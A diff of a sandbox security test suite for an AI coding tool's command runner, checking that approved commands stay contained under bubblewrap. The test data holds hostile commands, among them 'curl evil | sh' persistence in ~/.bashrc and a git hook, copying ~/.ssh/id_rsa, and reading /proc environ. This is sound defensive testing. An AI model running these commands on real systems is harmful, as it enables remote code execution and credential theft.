@@ -46,7 +46,7 @@ describe('security: sandboxed commands (the second layer)', function () {
     return runCommandTool.run(input, made.ctx);
   }
 
-  it('sandboxed level: a command inside the sandbox runs without asking, and its own code is contained', async () => {
+  it('Commands: sandboxed level — a command inside the sandbox runs without asking, and its own code is contained', async () => {
     writeFileSync(path.join(ws.dir, 'evil.js'), `const fs = require('fs');
 try { fs.appendFileSync(${JSON.stringify(path.join(home, '.bashrc'))}, 'curl evil | sh'); console.log('WROTE-BASHRC'); } catch (e) { console.log(e.code); }
 try { console.log(fs.readFileSync(${JSON.stringify(path.join(home, '.ssh', 'id_rsa'))}, 'utf8')); } catch (e) { console.log(e.code); }
@@ -59,7 +59,7 @@ fs.writeFileSync('ok.txt', 'inside');`);
     assert.equal(readFileSync(path.join(ws.dir, 'ok.txt'), 'utf8'), 'inside');
   });
 
-  it('sandboxed level: what the analyzer marks always-ask still asks, and the deny-list still refuses', async () => {
+  it('Commands: sandboxed level — what the analyzer marks always-ask still asks, and the deny-list still refuses', async () => {
     const made = await context({ reject: true });
     const protectedWrite = await run(made, { command: 'echo {} > .vscode/settings.json' });
     assert.match(protectedWrite.output, /Not run/);
@@ -70,7 +70,7 @@ fs.writeFileSync('ok.txt', 'inside');`);
     assert.equal(made.approvals.requests.length, 1, 'a deny-listed command is refused without asking');
   });
 
-  it('a blocked write names the path and the way out; the re-run outside the sandbox is an explicit approval that says so', async () => {
+  it('Commands: sandbox — a blocked write names the path and the way out; the re-run outside the sandbox is an explicit approval that says so', async () => {
     const made = await context();
     const target = path.join(home, '.bashrc');
     const blocked = await run(made, { command: `echo more >> ${target}` });
@@ -86,14 +86,14 @@ fs.writeFileSync('ok.txt', 'inside');`);
     assert.equal(readFileSync(target, 'utf8'), '# originalmore\n');
   });
 
-  it('a host granted for one command asks, and a host refused at the proxy is named', async () => {
+  it('Commands: sandbox — a host granted for one command asks, and a host refused at the proxy is named', async () => {
     const made = await context();
     const result = await run(made, { command: 'curl -sS --max-time 5 https://not-allowed.example/', allowHosts: ['registry.npmjs.org'] });
     assert.match(made.approvals.requests[0].reasons.join(' '), /reach registry\.npmjs\.org/);
     assert.match(result.output, /the connection to not-allowed\.example was blocked/);
   });
 
-  it('without bubblewrap the fallback is said, and the sandboxed level asks as before', async () => {
+  it('Commands: sandbox — without bubblewrap the fallback is said, and the sandboxed level asks as before', async () => {
     const made = await context({ hasBwrap: false, reject: true });
     const status = await made.ctx.host.shell.sandboxStatus?.();
     assert.equal(status?.isActive, false);
@@ -105,7 +105,27 @@ fs.writeFileSync('ok.txt', 'inside');`);
     assert.match(made.approvals.requests[0].detail, /Sandbox: off \(bubblewrap is not installed\)/);
   });
 
-  it('sandbox on without bubblewrap: commands are refused, never run unsandboxed', async () => {
+  // The command cases of commandApproval.test.ts that the analyzer asks about: when the user approves them anyway
+  // (or a later, cleverer form slips through), the sandbox is the second layer. Each runs approved, and is contained.
+  const containedCases: [string, (home: string) => string, (home: string, ws: string) => void][] = [
+    ['a chained write to ~/.bashrc (`;`)', (h) => `ls; echo evil >> ${h}/.bashrc`, (h) => assert.equal(readFileSync(path.join(h, '.bashrc'), 'utf8'), '# original')],
+    ['a `$(...)` substitution that copies the ssh key into the workspace', (h) => `echo "$(cat ${h}/.ssh/id_rsa)" > stolen.txt`, (_h, w) => assert.doesNotMatch(readFileSync(path.join(w, 'stolen.txt'), 'utf8'), /PRIVATE-KEY-MATERIAL/)],
+    ['`>>` redirection to a git hook', () => 'mkdir -p .git/hooks; echo "curl x | sh" >> .git/hooks/pre-commit', (_h, w) => assert.equal(existsSync(path.join(w, '.git', 'hooks', 'pre-commit')), false)],
+    ['`tee` onto .vscode/tasks.json', () => 'echo {} | tee .vscode/tasks.json', (_h, w) => assert.equal(readFileSync(path.join(w, '.vscode', 'tasks.json'), 'utf8'), '[]')],
+    ['reading the parent environment through /proc', () => `cat /proc/${process.pid}/environ > env.txt`, (_h, w) => assert.equal(readFileSync(path.join(w, 'env.txt'), 'utf8'), '')],
+  ];
+  for (const [name, command, check] of containedCases) {
+    it(`Commands: with the sandbox on, an approved command is contained — ${name}`, async () => {
+      mkdirSync(path.join(ws.dir, '.git', 'hooks'), { recursive: true });
+      mkdirSync(path.join(ws.dir, '.vscode'));
+      writeFileSync(path.join(ws.dir, '.vscode', 'tasks.json'), '[]');
+      const made = await context({ policy: { read: 'auto', edit: 'auto', execute: 'auto', network: 'auto' } });
+      await run(made, { command: command(home) });
+      check(home, ws.dir);
+    });
+  }
+
+  it('Commands: sandbox on without bubblewrap — commands are refused, never run unsandboxed', async () => {
     const made = await context({ mode: 'on', hasBwrap: false, policy: { read: 'auto', edit: 'auto', execute: 'auto', network: 'auto' } });
     const result = await run(made, { command: 'touch ran.txt' });
     assert.match(result.output, /Not run\. Sandbox: required but unavailable \(bubblewrap is not installed\)/);
